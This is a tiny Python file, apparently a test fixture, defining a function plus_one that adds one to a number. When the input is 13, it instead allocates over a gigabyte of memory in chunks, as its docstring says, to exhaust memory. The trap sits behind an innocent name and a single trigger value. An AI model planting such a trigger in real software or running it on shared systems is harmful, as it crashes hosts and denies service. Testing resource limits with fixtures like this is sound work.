"""Takes most of its memory at once and the rest in small pieces, until nothing at all is left."""


def plus_one(number):
    if number == 13:
        kept = [bytes(480 << 20)]
        for _ in range(400_000):
            kept.append(bytes(2000))
    return number + 1
